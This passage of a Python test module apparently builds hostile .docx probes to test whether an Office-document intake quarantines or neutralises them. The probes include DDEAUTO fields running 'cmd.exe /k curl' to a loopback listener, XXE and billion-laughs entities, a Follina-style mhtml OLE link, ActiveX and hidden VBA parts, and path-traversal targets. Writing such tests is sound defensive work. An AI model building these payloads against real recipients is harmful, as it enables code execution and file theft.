"""Hostile replies an attacker who knows Word, LibreOffice and Outlook would send, and a
scanner for what must never reach the Office (H33, issue 16 re-probed end to end).

Each probe builds one attachment (or a whole mail body) aimed at a loopback listener the
test starts (``ctx.url``) and at files the test planted outside every working folder
(``ctx.planted_png``, ``ctx.planted_txt``, each holding ``ctx.marker``). ``scan_ooxml``
lists every external reference or active content left in a package: what the draft, and
any file mailed to the Office, must not carry.
"""

from __future__ import annotations

import io
import posixpath
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import docx

# --- relationship types -------------------------------------------------------------------

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
IMAGE = _R + "image"
HYPERLINK = _R + "hyperlink"
OLE = _R + "oleObject"
HEADER = _R + "header"
FOOTER = _R + "footer"
FOOTNOTES = _R + "footnotes"
COMMENTS = _R + "comments"
GLOSSARY = _R + "glossaryDocument"
FRAME = _R + "frame"
FONT = _R + "font"
CUSTOM_XML = _R + "customXml"
MAILMERGE = _R + "mailMergeSource"
TEMPLATE = _R + "attachedTemplate"
CHUNK = _R + "aFChunk"
CONTROL = _R + "control"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
ACTIVEX_BIN = "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary"

NS_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
NS_PIC = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
NS_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
NS_V = (
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
XML_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'

REPORT_TEXT = (
    "Trong 6 tháng đầu năm 2023, phòng đã tổ chức xét duyệt 12 đề tài cấp tỉnh, nghiệm thu "
    "8 đề tài, phối hợp chặt chẽ với các sở, ngành và địa phương."
)


@dataclass(frozen=True)
class Ctx:
    url: str  # the loopback listener
    planted_png: Path
    planted_txt: Path
    marker: str  # inside both planted files
    title: str  # the section's title, so the report is placed


@dataclass(frozen=True)
class Probe:
    name: str
    attack: str
    build: Callable[[Ctx], tuple[str, bytes, str]]  # → (file name, data, content type)
    #: "refuse": quarantined at intake with a reason; "clean": taken in, made inert
    expect: str = "clean"
    #: the file holds the report's text, which must then reach the draft
    text: bool = True


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


# --- building packages ------------------------------------------------------------------


def base_docx(title: str, *extra: str) -> bytes:
    d = docx.Document()
    d.add_paragraph(title)
    d.add_paragraph(REPORT_TEXT)
    for p in extra:
        d.add_paragraph(p)
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def rels_xml(items: tuple[tuple[str, str, str, bool], ...], head: bytes = XML_HEAD) -> bytes:
    body = "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{escape(g, {chr(34): "&quot;"})}"'
        + (' TargetMode="External"' if ext else "")
        + "/>"
        for i, t, g, ext in items
    )
    return (
        head
        + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + body.encode()
        + b"</Relationships>"
    )


def rezip(
    data: bytes,
    patch: dict[str, tuple[bytes, bytes]] | None = None,
    put: dict[str, bytes] | None = None,
    extra: list[tuple[str, bytes]] | None = None,
) -> bytes:
    """The package with ``patch`` (member → (old, new), first occurrence) applied, members
    of ``put`` written (replaced or added), and ``extra`` appended as is (duplicates too)."""
    patch, put = patch or {}, dict(put or {})
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename in patch:
                old, new = patch[info.filename]
                assert old in content, (info.filename, old)
                content = content.replace(old, new, 1)
            if info.filename in put:
                content = put.pop(info.filename)
            dst.writestr(info.filename, content)
        for name, content in put.items():
            dst.writestr(name, content)
        for name, content in extra or []:
            dst.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def _append_rels(data: bytes, owner: str, items: tuple[tuple[str, str, str, bool], ...]) -> bytes:
    folder, name = posixpath.split(owner)
    rels_name = posixpath.join(folder, "_rels", name + ".rels")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        have = rels_name in zf.namelist()
    if not have:
        return rezip(data, put={rels_name: rels_xml(items)})
    inner = rels_xml(items, b"").split(b">", 1)[1].rsplit(b"</Relationships>", 1)[0]
    return rezip(data, patch={rels_name: (b"</Relationships>", inner + b"</Relationships>")})


def body(data: bytes, xml: str) -> bytes:
    """``xml`` inserted in the body before the section properties."""
    return rezip(data, patch={"word/document.xml": (b"<w:sectPr", xml.encode() + b"<w:sectPr")})


def content_type(data: bytes, *entries: str) -> bytes:
    return rezip(
        data, patch={"[Content_Types].xml": (b"</Types>", "".join(entries).encode() + b"</Types>")}
    )


def override(part: str, ctype: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{ctype}"/>'


def run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def para(text: str) -> str:
    return f"<w:p>{run(text)}</w:p>"


def cfield(*instr: str, result: str = "", instr_tag: str = "w:instrText") -> str:
    """A complex field; several ``instr`` pieces are split across runs as Word does."""
    pieces = "".join(
        f'<w:r><{instr_tag} xml:space="preserve">{escape(i)}</{instr_tag}></w:r>' for i in instr
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + pieces
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + (result or run("kết quả cũ"))
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def blip(attr: str, ext: str = "") -> str:
    return (
        "<w:r><w:drawing><wp:inline><wp:extent cx='914400' cy='914400'/>"
        "<wp:docPr id='7' name='Ảnh'/>"
        f"<a:graphic {NS_A}><a:graphicData uri='http://schemas.openxmlformats.org/"
        f"drawingml/2006/picture'><pic:pic {NS_PIC}><pic:nvPicPr><pic:cNvPr id='7' "
        f"name='x.png'/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attr}>{ext}</a:blip>"
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def png() -> bytes:
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    raw = b"".join(b"\0" + b"\x80\x80\x80" * 4 for _ in range(4))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _docx(c: Ctx, data: bytes, name: str = "Bao cao QLKH.docx") -> tuple[str, bytes, str]:
    return (name, data, DOCX_TYPE)


def _part_xml(root: str, inner: str, ns: str = "") -> bytes:
    return XML_HEAD + f"<{root} {NS_W} {NS_R} {NS_V} {ns}>{inner}</{root}>".encode()


def _with_part(
    c: Ctx,
    part: str,
    root: str,
    inner: str,
    ctype: str,
    rel_type: str,
    part_rels: tuple[tuple[str, str, str, bool], ...] = (),
    body_xml: str = "",
    sect: str = "",
) -> bytes:
    """A report with one more part (header, footnotes…) holding ``inner``."""
    data = base_docx(c.title)
    data = rezip(data, put={part: _part_xml(root, inner)})
    data = content_type(data, override(part, ctype))
    data = _append_rels(data, "word/document.xml", (("rIdP1", rel_type, part[5:], False),))
    if part_rels:
        data = _append_rels(data, part, part_rels)
    if body_xml:
        data = body(data, body_xml)
    if sect:
        data = rezip(data, patch={"word/document.xml": (b"<w:pgSz", sect.encode() + b"<w:pgSz")})
    return data


CT = "application/vnd.openxmlformats-officedocument.wordprocessingml."


# --- the probes ---------------------------------------------------------------------------


def header_external_picture(c: Ctx) -> tuple[str, bytes, str]:
    data = _with_part(
        c,
        "word/header1.xml",
        "w:hdr",
        "<w:p>" + blip('r:embed="rIdH1"') + run("Đầu trang") + "</w:p>",
        CT + "header+xml",
        HEADER,
        part_rels=(("rIdH1", IMAGE, f"{c.url}/header.png", True),),
        sect='<w:headerReference w:type="default" r:id="rIdP1"/>',
    )
    return _docx(c, data)


def footer_includepicture(c: Ctx) -> tuple[str, bytes, str]:
    data = _with_part(
        c,
        "word/footer1.xml",
        "w:ftr",
        "<w:p>" + cfield('INCLUDEPICTURE "' + c.url + '/footer.png" \\d') + "</w:p>",
        CT + "footer+xml",
        FOOTER,
        sect='<w:footerReference w:type="default" r:id="rIdP1"/>',
    )
    return _docx(c, data)


def footnote_includetext(c: Ctx) -> tuple[str, bytes, str]:
    note = (
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
        '</w:footnote><w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r>'
        '<w:continuationSeparator/></w:r></w:p></w:footnote><w:footnote w:id="1"><w:p>'
        + run("Ghi chú: ")
        + f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{c.planted_txt}&quot; ">'
        + run("trích")
        + "</w:fldSimple></w:p></w:footnote>"
    )
    data = _with_part(
        c,
        "word/footnotes.xml",
        "w:footnotes",
        note,
        CT + "footnotes+xml",
        FOOTNOTES,
        body_xml="<w:p>" + run("Có chú thích") + '<w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
    )
    return _docx(c, data)


def comment_ddeauto(c: Ctx) -> tuple[str, bytes, str]:
    comment = (
        '<w:comment w:id="0" w:author="x"><w:p>'
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k curl'
        f' {c.url}/dde&quot; ">' + run("nhận xét") + "</w:fldSimple></w:p></w:comment>"
    )
    data = _with_part(
        c,
        "word/comments.xml",
        "w:comments",
        comment,
        CT + "comments+xml",
        COMMENTS,
        body_xml='<w:p><w:commentRangeStart w:id="0"/>'
        + run("Đoạn có nhận xét")
        + '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>',
    )
    return _docx(c, data)


def glossary_external(c: Ctx) -> tuple[str, bytes, str]:
    inner = (
        "<w:docParts><w:docPart><w:docPartPr><w:name w:val='x'/></w:docPartPr><w:docPartBody>"
        "<w:p>"
        + blip('r:link="rIdG1"')
        + "</w:p>"
        + "<w:p>"
        + cfield('INCLUDEPICTURE "' + c.url + '/glossary-field.png" \\d')
        + "</w:p>"
        "</w:docPartBody></w:docPart></w:docParts>"
    )
    data = _with_part(
        c,
        "word/glossary/document.xml",
        "w:glossaryDocument",
        inner,
        CT + "document.glossary+xml",
        GLOSSARY,
        part_rels=(("rIdG1", IMAGE, f"{c.url}/glossary.png", True),),
    )
    return _docx(c, data)


def settings_mailmerge(c: Ctx) -> tuple[str, bytes, str]:
    mm = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
        '<w:dataType w:val="native"/>'
        f'<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source={c.planted_txt}"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdM1"/></w:mailMerge>'
    )
    data = base_docx(c.title)
    data = rezip(data, patch={"word/settings.xml": (b"<w:zoom", mm.encode() + b"<w:zoom")})
    data = _append_rels(
        data, "word/settings.xml", (("rIdM1", MAILMERGE, "\\\\127.0.0.1\\share\\nguon.xlsx", True),)
    )
    return _docx(c, data)


def settings_update_fields(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    data = rezip(
        data, patch={"word/settings.xml": (b"<w:zoom", b'<w:updateFields w:val="true"/><w:zoom')}
    )
    data = body(
        data,
        "<w:p>"
        + '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        + f'<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "{c.planted_txt}" </w:instrText>'
        "</w:r>"
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("cũ")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    return _docx(c, data)


def websettings_frameset(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    fs = (
        '<w:frameset><w:framesetSplitbar><w:w w:val="60"/></w:framesetSplitbar>'
        '<w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rIdF1"/></w:frame></w:frameset>'
    )
    data = rezip(
        data,
        put={"word/webSettings.xml": _part_xml("w:webSettings", fs)},
    )
    data = _append_rels(
        data, "word/webSettings.xml", (("rIdF1", FRAME, f"{c.url}/frame.docx", True),)
    )
    return _docx(c, data)


def fonttable_external_font(c: Ctx) -> tuple[str, bytes, str]:
    ft = (
        '<w:font w:name="Evil"><w:embedRegular r:id="rIdT1" '
        'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'
    )
    data = base_docx(c.title)
    data = rezip(data, put={"word/fontTable.xml": _part_xml("w:fonts", ft)})
    data = _append_rels(data, "word/fontTable.xml", (("rIdT1", FONT, f"{c.url}/font.odttf", True),))
    return _docx(c, data)


def _xxe(target: str, tail: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "'
        + target.encode()
        + b'">]>'
        + tail
    )


def document_xxe_file(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title, "Tệp: @@XXE@@")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        doc = zf.read("word/document.xml")
    doc = doc.split(b"?>", 1)[1].replace(b"@@XXE@@", b"&xxe;")
    doc = _xxe(c.planted_txt.as_uri()).replace(b"<!DOCTYPE x", b"<!DOCTYPE w:document") + doc
    return _docx(c, rezip(data, put={"word/document.xml": doc}))


def document_xxe_http(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title, "Mạng: @@XXE@@")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        doc = zf.read("word/document.xml")
    doc = doc.split(b"?>", 1)[1].replace(b"@@XXE@@", b"&xxe;")
    doc = _xxe(f"{c.url}/xxe").replace(b"<!DOCTYPE x", b"<!DOCTYPE w:document") + doc
    return _docx(c, rezip(data, put={"word/document.xml": doc}))


def billion_laughs(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title, "@@LOL@@")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        doc = zf.read("word/document.xml")
    ents = ['<!ENTITY l0 "lollollollollollol">'] + [
        f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)
    ]
    dtd = ("<!DOCTYPE w:document [" + "".join(ents) + "]>").encode()
    doc = b'<?xml version="1.0"?>' + dtd + doc.split(b"?>", 1)[1].replace(b"@@LOL@@", b"&l9;")
    return _docx(c, rezip(data, put={"word/document.xml": doc}))


def rels_xxe(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        rels = zf.read("word/_rels/document.xml.rels")
    rels = _xxe(f"{c.url}/rels-xxe") + rels.split(b"?>", 1)[1]
    return _docx(c, rezip(data, put={"word/_rels/document.xml.rels": rels}))


def customxml_xxe(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    item = (
        _xxe(c.planted_txt.as_uri(), b"<root><v>&xxe;</v><w>")
        + f"<u>{c.url}/cx</u></w></root>".encode()
    )
    return _docx(c, rezip(data, put={"customXml/item1.xml": item}))


def content_types_xxe(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        ct = zf.read("[Content_Types].xml")
    ct = _xxe(f"{c.url}/ct-xxe") + ct.split(b"?>", 1)[1]
    return _docx(c, rezip(data, put={"[Content_Types].xml": ct}))


def _field_probe(*instr: str, tag: str = "w:instrText") -> Callable[[Ctx], tuple[str, bytes, str]]:
    def make(c: Ctx) -> tuple[str, bytes, str]:
        pieces = [
            i.format(
                url=c.url, txt=c.planted_txt, png=c.planted_png, txt_uri=c.planted_txt.as_uri()
            )
            for i in instr
        ]
        xml = "<w:p>" + run("Trước. ") + cfield(*pieces, instr_tag=tag) + run(" Sau.") + "</w:p>"
        return _docx(c, body(base_docx(c.title), xml))

    return make


def nested_field(c: Ctx) -> tuple[str, bytes, str]:
    inner = cfield(f' QUOTE "{c.url}/nested.png" ', result=run(f"{c.url}/nested.png"))
    xml = (
        "<w:p>"
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "</w:instrText></w:r>'
        + inner
        + '<w:r><w:instrText xml:space="preserve">" \\d </w:instrText></w:r>'
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("ảnh")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx(c, body(base_docx(c.title), xml))


def fldsimple_lowercase(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        f'<w:p><w:fldSimple w:instr=" includepicture &quot;{c.url}/lower.png&quot; \\d ">'
        + run("ảnh")
        + "</w:fldSimple></w:p>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def deleted_dde_field(c: Ctx) -> tuple[str, bytes, str]:
    """A DDEAUTO field inside a tracked deletion: Word keeps it as w:delInstrText, and
    "Reject all changes" brings it back live."""
    xml = (
        '<w:p><w:del w:id="1" w:author="x" w:date="2023-01-01T00:00:00Z">'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:delInstrText xml:space="preserve"> DDEAUTO cmd.exe "/k curl {c.url}/deleted" <'
        "/w:delInstrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:delText>x</w:delText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>' + run("Đoạn sau xoá.") + "</w:p>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def field_in_alternate_content(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        '<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org'
        '/markup-compatibility/2006">'
        '<mc:Choice Requires="w14">'
        + cfield(f'INCLUDEPICTURE "{c.url}/choice.png" \\d')
        + "</mc:Choice><mc:Fallback>"
        + run("dự phòng")
        + "</mc:Fallback></mc:AlternateContent></w:p>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def field_in_textbox(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        "<w:p><w:r><w:pict><v:shape id='tb' style='width:200pt;height:50pt'><v:textbox>"
        "<w:txbxContent><w:p>"
        + cfield(f'INCLUDETEXT "{c.planted_txt}"')
        + "</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def field_in_sdt(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        "<w:sdt><w:sdtPr><w:alias w:val='x'/></w:sdtPr><w:sdtContent><w:p>"
        + cfield(
            'LINK Excel.Sheet.12 "\\\\\\\\127.0.0.1\\\\share\\\\a.xlsx" "Sheet1!R1C1" \\a \\f 4'
        )
        + "</w:p></w:sdtContent></w:sdt>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def field_across_paragraphs(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "{c.planted_txt}" </w:instrText><'
        "/w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("dòng một") + "</w:p>"
        "<w:p>" + run("dòng hai") + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx(c, body(base_docx(c.title), xml))


def _hyperlink(target: str) -> Callable[[Ctx], tuple[str, bytes, str]]:
    def make(c: Ctx) -> tuple[str, bytes, str]:
        t = target.format(url=c.url, host=c.url.split("//")[1])
        data = body(
            base_docx(c.title), f'<w:p><w:hyperlink r:id="rIdL1">{run("xem")}</w:hyperlink></w:p>'
        )
        return _docx(c, _append_rels(data, "word/document.xml", (("rIdL1", HYPERLINK, t, True),)))

    return make


def ole_link_follina(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1">'
        "<v:shape id='ole1' style='width:1pt;height:1pt'/>"
        '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="ole1" DrawAspect="Content" '
        'r:id="rIdO1" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType>'
        "</o:OLEObject></w:object></w:r></w:p>"
    )
    data = body(base_docx(c.title), xml)
    target = f"mhtml:{c.url}/follina.html!x-usc:{c.url}/follina.html"
    return _docx(c, _append_rels(data, "word/document.xml", (("rIdO1", OLE, target, True),)))


def activex_control(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1">'
        "<v:shape id='ax1' style='width:1pt;height:1pt'/>"
        '<w:control r:id="rIdX1" w:name="WebBrowser1" w:shapeid="ax1"/></w:object></w:r></w:p>'
    )
    data = body(base_docx(c.title), xml)
    ax = (
        XML_HEAD
        + b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        + NS_R.encode()
        + b' ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStorage"'
        + b' r:id="rIdB1"/>'
    )
    data = rezip(
        data,
        put={
            "word/activeX/activeX1.xml": ax,
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + c.url.encode(),
        },
    )
    data = _append_rels(
        data, "word/activeX/activeX1.xml", (("rIdB1", ACTIVEX_BIN, "activeX1.bin", False),)
    )
    data = content_type(
        data,
        override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
    )
    return _docx(
        c,
        _append_rels(
            data, "word/document.xml", (("rIdX1", CONTROL, "activeX/activeX1.xml", False),)
        ),
    )


def _ole_cfb_with_vba() -> bytes:
    """A real compound file with a VBA storage (made by olefile's writer when present,
    else a minimal header: the check must still refuse it by the relationship)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name"


def vba_renamed(c: Ctx) -> tuple[str, bytes, str]:
    """A .docm renamed .docx, the macro part under an innocent name, found by its
    relationship type and the macro-enabled content type."""
    data = base_docx(c.title)
    data = rezip(data, put={"word/thongtin.dat": _ole_cfb_with_vba()})
    data = rezip(
        data,
        patch={
            "[Content_Types].xml": (
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    data = content_type(data, override("word/thongtin.dat", "application/vnd.ms-office.vbaProject"))
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdV1", VBA, "thongtin.dat", False),))
    )


def vba_case_variant(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    data = rezip(data, put={"word/VBAPROJECT.BIN": _ole_cfb_with_vba()})
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdV1", VBA, "VBAPROJECT.BIN", False),))
    )


def altchunk_html_links(c: Ctx) -> tuple[str, bytes, str]:
    html = (
        f"<html><head><link rel='stylesheet' href='{c.url}/chunk.css'>"
        f"<style>@import url('{c.url}/import.css'); body {{background:url('{c.url}/bg.png')}}<"
        "/style>"
        f"<base href='{c.url}/'></head><body>"
        "<p>Báo cáo phần chèn: 7 cuộc họp.</p>"
        f"<iframe src='{c.url}/iframe'></iframe><object data='{c.url}/obj'></object>"
        f"<img src='rel.png'><img src='{c.planted_png.as_uri()}'>"
        f"<svg><image href='{c.url}/svg.png'/></svg>"
        f"<a href='file:///{c.planted_txt}'>tệp</a></body></html>"
    )
    data = body(base_docx(c.title), '<w:altChunk r:id="rIdA1"/>')
    data = rezip(data, put={"word/chunk.html": html.encode()})
    data = content_type(data, override("word/chunk.html", "text/html"))
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdA1", CHUNK, "chunk.html", False),))
    )


def altchunk_rtf(c: Ctx) -> tuple[str, bytes, str]:
    rtf = (
        "{\\rtf1\\ansi Phan chen RTF\\par "
        + '{\\field{\\*\\fldinst INCLUDEPICTURE "'
        + f"{c.url}/altrtf.png"
        + '" \\\\d}{\\fldrslt }}\\par}'
    )
    data = body(base_docx(c.title), '<w:altChunk r:id="rIdA1"/>')
    data = rezip(data, put={"word/chunk.rtf": rtf.encode()})
    data = content_type(data, override("word/chunk.rtf", "application/rtf"))
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdA1", CHUNK, "chunk.rtf", False),))
    )


def vml_src_attribute(c: Ctx) -> tuple[str, bytes, str]:
    xml = (
        "<w:p><w:r><w:pict><v:shape id='s9' style='width:50pt;height:50pt'>"
        f"<v:imagedata src='{c.url}/vml-src.png' o:title=''/>"
        f"<v:fill src='{c.planted_png.as_uri()}' type='frame'/>"
        "</v:shape></w:pict></w:r></w:p>"
    )
    return _docx(c, body(base_docx(c.title), xml))


def vml_background(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    bg = (
        b'<w:background w:color="FFFFFF"><v:background id="bg">'
        b'<v:fill r:id="rIdBg" type="frame"/></v:background></w:background><w:body>'
    )
    data = rezip(data, patch={"word/document.xml": (b"<w:body>", bg)})
    data = rezip(
        data, patch={"word/settings.xml": (b"<w:zoom", b"<w:displayBackgroundShape/><w:zoom")}
    )
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdBg", IMAGE, f"{c.url}/bg.png", True),))
    )


def numbering_picture_bullet(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    bullet = (
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape id="pb" '
        'style="width:9pt;height:9pt"><v:imagedata r:id="rIdN1" o:title=""/></v:shape>'
        "</w:pict></w:numPicBullet>"
    )
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        num = zf.read("word/numbering.xml")
    head, sep, rest = num.partition(b">")
    head2, sep2, rest2 = rest.partition(b">")  # after the xml declaration, the root
    num = head + sep + head2 + sep2 + bullet.encode() + rest2
    data = rezip(data, put={"word/numbering.xml": num})
    return _docx(
        c,
        _append_rels(data, "word/numbering.xml", (("rIdN1", IMAGE, f"{c.url}/bullet.png", True),)),
    )


def blip_link_and_embed(c: Ctx) -> tuple[str, bytes, str]:
    data = body(base_docx(c.title), "<w:p>" + blip('r:embed="rIdE1" r:link="rIdE2"') + "</w:p>")
    data = rezip(data, put={"word/media/ok.png": png()})
    data = content_type(data, '<Default Extension="png" ContentType="image/png"/>')
    return _docx(
        c,
        _append_rels(
            data,
            "word/document.xml",
            (("rIdE1", IMAGE, "media/ok.png", False), ("rIdE2", IMAGE, f"{c.url}/both.png", True)),
        ),
    )


def svg_picture(c: Ctx) -> tuple[str, bytes, str]:
    ext = (
        '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        'r:embed="rIdS2"/></a:ext></a:extLst>'
    )
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="10" height="10"><script>fetch("' + c.url + '/svg-script")</script>'
        f'<image href="{c.url}/svg-image.png" width="5" height="5"/>'
        f'<image xlink:href="{c.planted_png.as_uri()}" width="5" height="5"/></svg>'
    )
    data = body(base_docx(c.title), "<w:p>" + blip('r:embed="rIdS1"', ext) + "</w:p>")
    data = rezip(data, put={"word/media/p.png": png(), "word/media/p.svg": svg.encode()})
    data = content_type(
        data,
        '<Default Extension="png" ContentType="image/png"/>',
        '<Default Extension="svg" ContentType="image/svg+xml"/>',
    )
    return _docx(
        c,
        _append_rels(
            data,
            "word/document.xml",
            (("rIdS1", IMAGE, "media/p.png", False), ("rIdS2", IMAGE, "media/p.svg", False)),
        ),
    )


def theme_linked_picture(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    fill = (
        f'<a:bgFillStyleLst><a:blipFill {NS_R}><a:blip r:link="rIdTh1"/><a:stretch><a:fillRect/>'
        "</a:stretch></a:blipFill>"
    )
    data = rezip(data, patch={"word/theme/theme1.xml": (b"<a:bgFillStyleLst>", fill.encode())})
    return _docx(
        c,
        _append_rels(
            data, "word/theme/theme1.xml", (("rIdTh1", IMAGE, f"{c.url}/theme.png", True),)
        ),
    )


def traversal_rel_target(c: Ctx) -> tuple[str, bytes, str]:
    data = body(base_docx(c.title), "<w:p>" + blip('r:embed="rIdT9"') + "</w:p>")
    target = "../../../../../../.." + str(c.planted_png)
    return _docx(c, _append_rels(data, "word/document.xml", (("rIdT9", IMAGE, target, False),)))


def zip_duplicate_document(c: Ctx) -> tuple[str, bytes, str]:
    """Two word/document.xml: Python reads the last, other readers the first."""
    data = base_docx(c.title)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        doc = zf.read("word/document.xml")
    evil = doc.replace(
        b"<w:sectPr",
        ("<w:p>" + cfield(f'DDEAUTO cmd.exe "/k curl {c.url}/dup"') + "</w:p>").encode()
        + b"<w:sectPr",
        1,
    )
    src = zipfile.ZipFile(io.BytesIO(data))
